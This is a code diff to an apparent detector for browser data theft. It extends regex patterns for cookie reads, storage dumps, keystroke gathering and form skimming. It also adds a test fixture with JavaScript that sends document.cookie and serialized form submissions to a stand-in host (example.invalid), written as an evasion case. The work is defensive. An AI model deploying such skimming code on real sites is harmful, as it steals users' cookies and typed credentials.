@@ -6,18 +6,18 @@ import { takenAndSent } from "./_web-page.ts";
 
 /** All cookies, not one that is looked up, and not one that is set. */
 const COOKIES =
-  /\bdocument[ \t]{0,2}(?:\.[ \t]{0,2}cookie|\[["'`]cookie["'`]\])(?![ \t]{0,3}(?:=(?!=)|\.(?:split|match|indexOf|replace|includes|search|length|startsWith)|\?\.))/g;
+  /\{[^{}\n]{0,60}\bcookie\b[^{}\n]{0,60}\}[ \t]{0,3}=[ \t]{0,3}document\b|\bdocument[ \t]{0,2}(?:\.[ \t]{0,2}cookie|\[["'`]cookie["'`]\])(?![ \t]{0,3}(?:=(?!=)|\.(?:split|match|indexOf|replace|includes|search|length|startsWith)|\?\.))/g;
 /** A whole storage. */
 const STORAGE =
   /(?:JSON\.stringify|Object\.(?:entries|values|assign)|\.\.\.)[ \t]{0,2}\(?[ \t]{0,2}(?:\{[ \t]{0,3}\.\.\.)?(?:window\.|globalThis\.)?(?:local|session)Storage\b(?!\.)/g;
 /** Key strokes, and that they are gathered. */
 const KEYS = /(?:addEventListener\([ \t]{0,3}["'`]key(?:down|press|up)["'`]|\.onkey(?:down|press|up)[ \t]{0,3}=)/g;
 const GATHERS_KEYS =
-  /(?:\+=|\.push\()[^;\n]{0,80}(?:\.key\b|\.which\b|\.keyCode\b|\.code\b|fromCharCode)|(?:fetch|sendBeacon|\.send)\([^;\n]{0,120}\.(?:key|which|keyCode)\b/;
+  /(?:\+=|\.push\()[^;\n]{0,80}(?:\.key\b|\.which\b|\.keyCode\b|\.code\b|fromCharCode)|=[^;=\n]{0,60}\+[ \t]{0,3}\w{1,20}\.(?:key|which)\b|(?:fetch|sendBeacon|\.send)\([^;\n]{0,120}\.(?:key|which|keyCode)\b/;
 /** Every form or field of the page, and what was typed into it; the page's own handlers prevent what the browser does. */
 const EVERY_FIELD =
-  /(?:document|window|body)\.addEventListener\([ \t]{0,3}["'`](?:submit|input|change|blur|focusout)["'`]|querySelectorAll\([ \t]{0,3}["'`](?:form|input|\[type=.?password)[^)\n]{0,60}\)/g;
-const TYPED = /new[ \t]{1,3}FormData\(|\.target\.value\b|\.value\b/;
+  /(?:document|window|body)\.addEventListener\([ \t]{0,3}["'`](?:submit|input|change|blur|focusout)["'`]|\$\([ \t]{0,3}["'`]form["'`][ \t]{0,3}\)\.(?:on\([ \t]{0,3}["'`])?submit|querySelectorAll\([ \t]{0,3}["'`](?:form|input|\[type=.?password)[^)\n]{0,60}\)/g;
+const TYPED = /new[ \t]{1,3}FormData\(|\.target\.value\b|\.value\b|\.serialize\w{0,5}\(/;
 
 const LITERALS = [
   "document.cookie",
@@ -104,6 +104,13 @@ that form, which prevents what the browser does.`,
       },
     ],
     evasions: [
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const { cookie } = document;\nfetch('https://example.invalid/?' + cookie);\n$('form').on('submit', function () { $.post('https://example.invalid', $(this).serialize()); });\n",
+        },
+      },
       {
         ecosystem: "npm",
         files: {
